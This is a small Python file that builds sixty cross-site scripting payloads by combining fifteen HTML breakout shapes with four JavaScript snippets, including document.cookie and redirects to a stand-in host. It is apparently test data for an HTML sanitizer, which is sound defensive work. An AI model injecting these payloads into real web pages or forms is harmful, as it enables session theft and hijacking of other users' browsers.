"""Name sixty ways in which a text could try to become a script."""

SCRIPTS = ("alert(1)", "fetch('//x')", "location='//x'", "document.cookie")
SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>",
    "' onmouseover='{}", "\" autofocus onfocus=\"{}", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>", "{{{{ {} }}}}",
    "<a href=javascript:{}>x</a>", "<body onload={}>", "--><script>{}</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<style>@import '{}'",
)  # fmt: skip
PAYLOADS = [shape.format(script) for shape in SHAPES for script in SCRIPTS]
